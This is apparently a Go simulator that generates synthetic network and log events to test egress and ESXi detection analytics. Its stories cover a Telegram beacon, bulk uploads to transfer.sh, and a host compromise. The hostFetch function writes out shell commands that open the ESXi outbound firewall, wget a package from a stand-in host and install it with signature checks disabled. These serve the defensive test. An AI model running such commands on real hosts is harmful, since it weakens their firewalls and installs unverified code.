package simulator

import (
	"net/netip"
	"time"
)

// place is somewhere on the simulated internet.
type place struct {
	name string
	addr netip.AddrPort
}

func somewhere(name, addr string) place { return place{name, netip.MustParseAddrPort(addr)} }

// places are where the traffic goes. The names are real services, so that a
// catalogue knows them; the addresses are documentation ranges.
func places() (p struct {
	cloud, cloud6, cloudLate, cloudTwin, updates, drivers, mirror, vendor, messenger, share, downloads place
},
) {
	p.cloud = somewhere("s3.eu-central-1.amazonaws.com", "198.51.100.10:443")
	p.cloud6 = somewhere("s3.eu-central-1.amazonaws.com", "[2001:db8:51::10]:443")
	p.cloudLate = somewhere("s3.eu-central-1.amazonaws.com", "198.51.100.20:443")
	p.cloudTwin = somewhere("s3.eu-central-1.amazonaws.com", "198.51.100.30:443")
	p.updates = somewhere("hostupdate.vmware.com", "203.0.113.130:443")
	p.drivers = somewhere("vibsdepot.hpe.com", "203.0.113.90:443")
	p.mirror = somewhere("archive.ubuntu.com", "203.0.113.140:80")
	p.vendor = somewhere("support.broadcom.com", "192.0.2.80:443")
	p.messenger = somewhere("api.telegram.org", "203.0.113.40:443")
	p.share = somewhere("transfer.sh", "203.0.113.60:443")
	p.downloads = somewhere("downloads.example.net", "203.0.113.77:443")
	return p
}

// Uids of the analytics that the stories should raise.
const (
	egressAnalytic   = "egress.unjustified"
	firewallAnalytic = "esxi.httpclient_opened"
)

// stories writes each story that the site has a VM for.
func (sc *script) stories() {
	p := places()
	sc.story(partBeacon, p.messenger, Story{
		ID: "beacon", Title: "an application server calls a messaging service every five minutes",
		Verdict: "unjustified", Reason: "no_role", Signs: []Sign{ruleTelegramName, habitClock},
	}, sc.beacon)
	sc.story(partUpload, p.share, Story{
		ID: "upload", Title: "a file server uploads gigabytes to a file share",
		Verdict: "unjustified", Reason: "no_role", Signs: []Sign{habitVolume},
	}, sc.upload)
	sc.story(partLate, p.cloudLate, Story{
		ID: "late-backup", Title: "a backup proxy writes to its cloud storage outside its window",
		Verdict: "unjustified", Reason: "window",
	}, sc.lateBackup)
	sc.twins(p.cloudTwin)
	sc.hostFetch(p.downloads)
	sc.logPaths()
	sc.ruleStories()
}

// story tells one whose actor is a VM.
func (sc *script) story(who part, where place, s Story, tell func(*VM, place)) {
	vm := sc.site.cast[who]
	if vm == nil {
		return
	}
	a := sc.count(func() { tell(vm, where) })
	s.VM, s.InstanceUUID, s.Host, s.Address = vm.Name, vm.InstanceUUID, vm.Host, vm.Address
	sc.publish(s, where, a)
}

// count tells something and says what it came to.
func (sc *script) count(tell func()) account {
	a := new(account)
	sc.account = a
	tell()
	sc.account = nil
	return *a
}

func (sc *script) publish(s Story, where place, a account) {
	if s.Analytic == "" {
		s.Analytic = egressAnalytic
	}
	s.Name, s.Destination, s.Port = where.name, where.addr.Addr(), where.addr.Port()
	s.Records, s.BytesOut, s.First, s.Last = a.records, a.bytesOut, a.first, a.last
	sc.truth.Stories = append(sc.truth.Stories, s)
}

// lead is how long before its first connection a client asks for a name: with
// hours sent in seconds, less would let the connection overtake the answer on
// its way through another socket.
const lead = 15 * time.Minute

func (sc *script) beacon(vm *VM, to place) {
	begin := sc.clock(20, 20)
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	beat := 0
	for at := begin; at.Before(sc.end.Add(-10 * time.Minute)); beat++ {
		if beat%6 == 5 {
			sc.ask(at.Add(-time.Second), vm.Address, to.name, to.addr.Addr())
		}
		sc.leave(at, vm, to.addr, sc.some(time.Second, 4*time.Second), 900+sc.rng.Int64N(200), 1500+sc.rng.Int64N(500))
		at = at.Add(sc.some(276*time.Second, 324*time.Second)) // five minutes, 8 % jitter
	}
}

func (sc *script) upload(vm *VM, to place) {
	begin := sc.clock(1, 40)
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	for i := range 12 {
		at := begin.Add(time.Duration(i) * 7 * time.Minute)
		sc.leave(at, vm, to.addr, sc.some(4*time.Minute, 6*time.Minute), 400_000_000+sc.rng.Int64N(500_000_000), 2_000_000)
	}
}

func (sc *script) lateBackup(vm *VM, to place) {
	begin := sc.clock(20, 40)
	sc.ask(begin.Add(-lead), vm.Address, to.name, to.addr.Addr())
	for i := range 6 {
		at := begin.Add(time.Duration(i) * 6 * time.Minute)
		sc.leave(at, vm, to.addr, sc.some(3*time.Minute, 5*time.Minute), 1_000_000_000+sc.rng.Int64N(1_000_000_000), 4_000_000)
	}
}

// twins have one address between them, one of them with the backup role. The
// edge sees their packets, which are within all that the role allows; but
// whose are they?
func (sc *script) twins(to place) {
	twin, clone := sc.site.cast[partTwin], sc.site.cast[partTwinClone]
	if twin == nil || clone == nil {
		return
	}
	begin := sc.clock(23, 10)
	sc.ask(begin.Add(-lead), twin.Address, to.name, to.addr.Addr())
	a := sc.count(func() {
		for i := range 8 {
			f := flow{src: netip.AddrPortFrom(twin.Address, sc.port()), dst: to.addr, proto: "TCP", rule: 1005}
			sc.tell(begin.Add(time.Duration(i)*10*time.Minute), sc.edge, f.atGateway())
		}
	})
	sc.publish(Story{
		ID: "duplicate-address", Title: "two VMs on two hosts have one address: whose connection it is cannot be told",
		Address: twin.Address, Candidates: []string{twin.Name, clone.Name},
		Verdict: "unknown", Reason: "ambiguous",
	}, to, a)
}

// hostFetch is a host that somebody makes fetch software from an address that
// no one has approved, by hand in its shell.
func (sc *script) hostFetch(from place) {
	host := sc.site.Hosts[min(2, len(sc.site.Hosts)-1)]
	sender := sc.byHost[host]
	url := "https://" + from.name + "/x86_64/tool.vib"
	begin := sc.clock(2, 30)
	say := func(after time.Duration, say func(*voice) message) {
		at := begin.Add(after)
		sc.tell(at, sender, say(sc.voice(at, sender, host)))
	}
	shell := func(command string) func(*voice) message {
		return func(v *voice) message { return v.shell(command) }
	}
	opening := sc.count(func() {
		say(0, shell("esxcli network firewall ruleset set -e true -r httpClient"))
		say(time.Second, func(v *voice) message {
			return v.vob("netCorrelator", "esx.audit.net.firewall.config.changed",
				"Firewall configuration has changed. Operation 'enable' for rule set httpClient succeeded.")
		})
	})
	sc.publish(Story{
		ID: "firewall-opened", Title: "the same host's firewall is opened for outbound HTTP(S) first",
		Host: host.Name, Address: host.Address, Analytic: firewallAnalytic, Signs: []Sign{ruleFirewallOpened},
	}, place{}, opening)
	a := sc.count(func() {
		say(40*time.Second, shell("wget -O /tmp/tool.vib "+url))
		say(3*time.Minute, shell("esxcli software vib install -v "+url+" --no-sig-check"))
		say(9*time.Minute, shell("esxcli software profile update -p tool-1.0 -d https://"+from.name+"/index.xml"))
	})
	from.addr = netip.AddrPortFrom(netip.Addr{}, 443) // a URL says no address
	sc.publish(Story{
		ID: "host-fetch", Title: "a host fetches software from an unlisted address by shell",
		Host: host.Name, Address: host.Address,
		Verdict: "unjustified", Reason: "destination", Signs: []Sign{ruleDownload, ruleUnchecked},
	}, from, a)
}
